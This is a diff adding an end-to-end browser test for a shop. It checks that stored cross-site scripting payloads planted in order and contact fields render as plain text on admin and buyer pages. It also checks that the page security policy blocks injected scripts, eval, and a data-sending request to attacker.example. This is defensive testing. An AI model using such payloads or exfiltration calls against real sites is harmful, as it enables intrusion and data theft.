@@ -1,0 +1,196 @@
+import { randomBytes, randomUUID } from 'node:crypto';
+import { type Browser, chromium, type Page } from 'playwright-core';
+import { system } from '../src/system.ts';
+
+const attacked = system();
+const json = { 'content-type': 'application/json' };
+
+/** Scripts as they are smuggled into text, each telling when it runs. */
+const scripts = [
+  '<img src=x onerror="window.attacked=1">',
+  '<script>window.attacked=2</script>',
+  '"><svg/onload=window.attacked=3>',
+];
+
+/** What was put into the shop: the words by which each is found again. */
+interface Planted {
+  orderId: string;
+  mark: string;
+}
+
+/** Places an order and sends a message with a script in every field that takes text. */
+async function plant(script: string): Promise<Planted> {
+  const mark = `M${randomBytes(4).toString('hex')}`;
+  const { data } = (await (await fetch(`${attacked.siteUrl}/api/products`)).json()) as {
+    data: { id: number; price: string; inStock: boolean }[];
+  }; // gateway/openapi.json
+  const product = data.find(({ inStock }) => inStock);
+  if (!product) throw new Error('nothing is in stock');
+  const placed = await fetch(`${attacked.siteUrl}/api/orders`, {
+    method: 'POST',
+    headers: { ...json, 'idempotency-key': randomUUID() },
+    body: JSON.stringify({
+      customerName: `${mark} ${script}`,
+      customerEmail: `${mark.toLowerCase()}@mail.example`,
+      customerPhone: '08031234567',
+      shippingAddress: `12 ${script} Road`,
+      shippingCity: script,
+      shippingState: 'Lagos',
+      quantity: 1,
+      productId: product.id,
+      productTitle: script,
+      totalPrice: product.price,
+    }),
+  });
+  expect(placed.status).toBe(201);
+  const written = await fetch(`${attacked.siteUrl}/api/contact`, {
+    method: 'POST',
+    headers: json,
+    body: JSON.stringify({
+      firstName: mark,
+      lastName: script,
+      email: `${mark.toLowerCase()}@mail.example`,
+      subject: `${mark} ${script}`,
+      message: `${script}\n${script}`,
+    }),
+  });
+  expect(written.status).toBe(201);
+  const answer = (await placed.json()) as { data: { orderId: string } }; // gateway/openapi.json
+  return { orderId: answer.data.orderId, mark };
+}
+
+/** The number under which staff find the order. */
+async function staffNumberOf(mark: string): Promise<number> {
+  const answer = await fetch(`${attacked.gatewayUrl}/api/orders?search=${mark}`, {
+    headers: { authorization: `Bearer ${attacked.token}` },
+  });
+  const { data } = (await answer.json()) as { data: { id: number }[] }; // gateway/openapi.json
+  return data[0]?.id ?? 0;
+}
+
+describe.each(scripts)('a stored %s', (script) => {
+  let browser: Browser;
+  let page: Page;
+  let planted: Planted;
+  const refused: string[] = [];
+
+  beforeAll(async () => {
+    planted = await plant(script);
+    browser = await chromium.launch({
+      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
+      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
+    });
+    // Through nginx: its policy is the one of the containers.
+    const context = await browser.newContext({
+      baseURL: `http://127.0.0.1:${attacked.nginxPort}`,
+      viewport: { width: 1280, height: 900 },
+    });
+    await context.addInitScript(
+      (token) => localStorage.setItem('adminToken', token),
+      attacked.token,
+    );
+    page = await context.newPage();
+    page.setDefaultTimeout(15_000);
+    page.on('console', (message) => {
+      if (/content security policy/i.test(message.text())) refused.push(message.text());
+    });
+  });
+  afterAll(() => browser.close());
+
+  const expectText = async (text: string) => {
+    await page.getByText(text, { exact: false }).first().waitFor();
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+    // It never even got so far that the policy had to stop it.
+    expect(refused).toEqual([]);
+  };
+
+  it('is text on the dashboard', async () => {
+    await page.goto('/admin');
+    await expectText(`${planted.mark} ${script}`);
+  });
+
+  it('is text in the table of orders and in the order itself', async () => {
+    await page.goto(`/admin/orders?search=${planted.mark}`);
+    await expectText(`${planted.mark} ${script}`);
+    await page.goto(`/admin/orders?order=${await staffNumberOf(planted.mark)}&step=confirm`);
+    await page.getByRole('dialog').waitFor();
+    await expectText(`12 ${script} Road`);
+  });
+
+  it('is text in the messages', async () => {
+    await page.goto('/admin?tab=messages');
+    await page.getByRole('tab', { name: 'Messages' }).click();
+    const subject = page.getByText(`${planted.mark} ${script}`).first();
+    await subject.waitFor();
+    await subject.click();
+    await expectText(script);
+  });
+
+  it("is text on the buyer's own page", async () => {
+    await page.goto(`/orders/${planted.orderId}`);
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+  });
+});
+
+describe('the policy of the pages', () => {
+  it('stops a script that got into a page all the same', async () => {
+    const browser = await chromium.launch({
+      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
+      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
+    });
+    try {
+      const page = await browser.newPage();
+      await page.goto(`http://127.0.0.1:${attacked.nginxPort}/admin/login`);
+      const outcome = await page.evaluate(async () => {
+        const violations: string[] = [];
+        // The debugger's own call may use eval whatever the policy says; what comes after it may not.
+        await new Promise((resolve) => setTimeout(resolve, 50));
+        addEventListener('securitypolicyviolation', (event) =>
+          violations.push(event.effectiveDirective),
+        );
+        const tried: string[] = [];
+        const attempt = (name: string, act: () => void) => {
+          try {
+            act();
+          } catch {
+            tried.push(`${name} threw`);
+          }
+        };
+        attempt('innerHTML', () => {
+          document.body.innerHTML = '<img src=x onerror="window.attacked=1">';
+        });
+        attempt('inline', () => {
+          const script = document.createElement('script');
+          script.append('window.attacked=2');
+          document.head.append(script);
+        });
+        attempt('eval', () => {
+          // biome-ignore lint/security/noGlobalEval: that it is refused is the test
+          // biome-ignore lint/complexity/noCommaOperator: an indirect call
+          (0, eval)('window.attacked=3');
+        });
+        attempt('foreign', () => {
+          const script = document.createElement('script');
+          script.setAttribute('src', 'https://attacker.example/x.js');
+          document.head.append(script);
+        });
+        await fetch('https://attacker.example/', { method: 'POST', body: 'stolen' }).catch(() =>
+          tried.push('fetch threw'),
+        );
+        // The browser reports them a moment later.
+        await new Promise((resolve) => setTimeout(resolve, 200));
+        return { violations, tried, isAttacked: 'attacked' in window };
+      });
+      expect(outcome.isAttacked).toBe(false);
+      expect(outcome.tried).toEqual(
+        expect.arrayContaining(['innerHTML threw', 'eval threw', 'fetch threw']),
+      );
+      expect(outcome.violations).toEqual(
+        expect.arrayContaining(['connect-src', 'require-trusted-types-for']),
+      );
+    } finally {
+      await browser.close();
+    }
+  });
+});
